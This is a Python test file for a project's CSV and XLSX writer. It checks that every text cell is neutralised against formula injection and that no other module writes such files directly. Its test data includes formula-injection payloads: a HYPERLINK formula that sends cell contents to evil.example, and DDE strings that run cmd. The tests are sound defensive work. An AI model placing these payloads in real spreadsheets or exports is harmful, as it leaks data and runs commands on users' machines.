"""core.tabular: the one CSV and XLSX writer neutralises every text cell, headers included, and never fails on
text a person typed."""

import ast
import enum
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from fundapp.core.tabular import csv_text, safe_text, xlsx_bytes
from tests.core.output_checks import csv_cells, would_run, xlsx_cells

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


class Colour(enum.StrEnum):
    red = "=red"


class Named:
    def __str__(self) -> str:
        return "=object's text"


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_text_neutralises_and_is_idempotent(value):
    assert safe_text(value) == "'" + value
    assert safe_text(safe_text(value)) == safe_text(value)


def test_csv_neutralises_every_text_cell_headers_included():
    header = [*FORMULAS, "Amount"]
    rows = [[*FORMULAS, Decimal("-12.50")], [Colour.red, Named(), -3, 4.5, date(2021, 1, 2), None, True]]
    cells = list(csv_cells(csv_text(header, rows).encode()))
    assert [c for c in cells if would_run(c)] == []
    assert cells.count("'" + FORMULAS[0]) == 2
    assert "-12.50" in cells  # amounts stay numbers
    assert "-3" in cells
    assert {"'=red", "'=object's text", "2021-01-02", "yes"} <= set(cells)


def test_xlsx_neutralises_text_keeps_numbers_and_drops_what_xml_cannot_hold():
    rows = [
        [*FORMULAS, Decimal("-12.50")],
        ["bell\x07 vertical tab\x0b nul\x00", Colour.red, Named(), -3, date(2021, 1, 2), datetime(2021, 1, 2, 3, 4)],
    ]
    data = xlsx_bytes([("Sheet: [one]/two?*", [*FORMULAS, "Amount"], rows)])
    cells = list(xlsx_cells(data))
    assert [c for c in cells if would_run(c)] == []
    assert cells.count("'" + FORMULAS[0]) == 2
    assert -12.5 in cells  # a number cell, not text
    assert {"bell vertical tab nul", "'=red", "'=object's text", -3} <= set(cells)


def test_no_module_but_core_tabular_writes_csv_or_xlsx():
    """Reading CSV (imports) is fine anywhere; writing goes through the one neutralising writer."""
    package = Path(__file__).resolve().parents[2] / "fundapp"
    found = []
    for path in sorted(package.rglob("*.py")):
        if path == package / "core" / "tabular.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
            where = f"{path.relative_to(package)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    found.append(f"{where} csv.{node.attr}")
            elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in {"openpyxl", "xlsxwriter"}:
                found.append(f"{where} from {node.module}")
            elif isinstance(node, ast.ImportFrom) and node.module == "csv":
                found += [f"{where} from csv import {a.name}" for a in node.names if "riter" in a.name]
            elif isinstance(node, ast.Import):
                found += [
                    f"{where} import {a.name}" for a in node.names if a.name.split(".")[0] in {"openpyxl", "xlsxwriter"}
                ]
    assert found == [], "write CSV and XLSX with fundapp.core.tabular, which neutralises formulas"
